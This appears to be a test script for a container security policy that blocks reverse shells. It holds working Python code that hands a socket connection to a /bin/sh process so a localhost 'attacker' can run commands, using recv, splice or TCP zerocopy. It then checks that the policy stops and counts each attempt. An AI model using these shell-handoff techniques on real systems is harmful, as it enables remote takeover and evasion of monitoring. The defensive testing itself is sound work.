# SPDX-License-Identifier: GPL-2.0-only
# The shell is there first, the connection is handed over later, and what it brings is
# received without recvmsg(): spliced into the shell's pipe, or by an option of TCP.
# shellcheck shell=bash disable=SC2034,SC2154

python=/usr/bin/python3
cg=$(cgroup free)

# The other end: sends a command, and says what came back. On TCP, or on AF_UNIX.
cat >attacker.py <<'END'
import os, socket, sys
where, patience = sys.argv[1], int(sys.argv[2])
if where == "tcp":
    server = socket.create_server(("127.0.0.1", 4336))
else:
    if os.path.exists(where):
        os.unlink(where)
    server = socket.socket(socket.AF_UNIX)
    server.bind(where); server.listen(1)
print("ready", flush=True)
server.settimeout(patience)
data = b""
try:
    c = server.accept()[0]
    c.settimeout(patience)
    c.sendall(b"echo GOT$((40+2))\n")
    while b"GOT42" not in data and (new := c.recv(4096)):
        data += new
except OSError:
    pass
print("owned" if b"GOT42" in data else "nothing", flush=True)
END

# One process connects and hands the socket to another, which has a shell by then.
# ends.py HOW WHERE: what comes goes to the shell, or back where it came from.
cat >ends.py <<'END'
import ctypes, os, select, socket, struct, subprocess, sys, time
how, where, to = sys.argv[1:]
def connect():
    if where == "tcp":
        return socket.create_connection(("127.0.0.1", 4336))
    s = socket.socket(socket.AF_UNIX)
    s.connect(where)
    return s
def by_zerocopy(s):
    text = ctypes.create_string_buffer(4096)
    libc = ctypes.CDLL(None)
    option = ctypes.create_string_buffer(struct.pack("=QIIIiQiI", 0, 0, 0, 0, 0,
                                                     ctypes.addressof(text), 4096, 0), 40)
    size = ctypes.c_int(40)
    if libc.getsockopt(s.fileno(), 6, 35, option, ctypes.byref(size)):
        return b""
    return text.raw[:struct.unpack_from("=i", option, 32)[0]]
def feed(s, w):
    if how == "splice":
        # Who waits in splice() has the lock of the pipe, and nobody reads from it.
        select.select([s], [], [])
        return os.splice(s.fileno(), w, 4096)
    d = s.recv(4096) if how == "recv" else by_zerocopy(s)
    return os.write(w, d) if d else 0
name = "\0spliced"
if os.fork():
    s = connect()
    l = socket.socket(socket.AF_UNIX)
    l.bind(name); l.listen(1)
    u = l.accept()[0]
    socket.send_fds(u, [b"x"], [s.fileno()])
    s.close()
    os.wait()
    sys.exit()
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0)
time.sleep(2)
u = socket.socket(socket.AF_UNIX)
for i in range(100):
    try:
        u.connect(name); break
    except OSError:
        time.sleep(0.1)
s = socket.socket(fileno=socket.recv_fds(u, 1, 1)[1][0])
u.close()
if to == "itself":
    # A relay of two sockets: the shell gets its commands from the program.
    p.stdin.write(b"echo own-$((40+2))\n")
    print(p.stdout.read(7), flush=True)
    p.stdin.close(); p.stdout.close(); p.wait()
    r, w = os.pipe()
    # Another shell of the container waits for commands of somebody else.
    q = subprocess.Popen(["/bin/sh", "-c", "read x | cat"], stdin=subprocess.PIPE)
    time.sleep(1)
    n = feed(s, w)
    print("came", os.read(r, n), flush=True)
    s.sendall(b"GOT42\n")
    q.stdin.close()
    sys.exit()
if os.fork() == 0:
    while d := p.stdout.read(4096):
        s.sendall(d)
    os._exit(0)
time.sleep(1)
try:
    for i in range(20):
        if not feed(s, p.stdin.fileno()):
            time.sleep(0.2)
except OSError as e:
    print(e, flush=True)
END

# meet HOW WHERE TO: in the cgroup; a peer outside listens
patience=40
meet() {
	local peer pid
	: >peer.out
	$python attacker.py "$2" $patience >peer.out 2>&1 &
	peer=$!
	poll grep -q ready peer.out
	timeout 300 /opt/csec/bin/cgexec "$cg" $python ends.py "$1" "$2" "$3" </dev/null >inside.out 2>&1 &
	pid=$!
	wait $peer
	kill $pid 2>/dev/null
	echo 1 >"$cg/cgroup.kill" 2>/dev/null
	wait $pid 2>/dev/null
	cat peer.out inside.out
}

there=$dir/there
attacks=(recv:tcp splice:tcp zerocopy:tcp "splice:$there")
for name in "${attacks[@]}"; do
	contains "without a policy: ${name%%/*}" owned meet "${name%%:*}" "${name#*:}" shell
done

policy=spliced
cg=$(cgroup deny)
govern spliced "$cg" <<'END' || fail 'a policy is pushed'
shells: {reverse: deny, bind: deny, connect: deny}
END
patience=20
refused() { counter spliced reverse_shell; }
for name in "${attacks[@]}"; do
	before=$(refused)
	lacks "${name%%/*}: is stopped" owned meet "${name%%:*}" "${name#*:}" shell
	at_least "${name%%/*}: is counted" $((before + 1)) "$(refused)"
done

# What looks alike
patience=40
before=$(refused)
for name in "${attacks[@]}"; do
	contains "${name%%/*}: for the program itself, beside shells" owned \
		meet "${name%%:*}" "${name#*:}" itself
	contains "${name%%/*}: and its shell ran" own-42 cat inside.out
done
equals 'nothing of that was refused' "$before" "$(refused)"
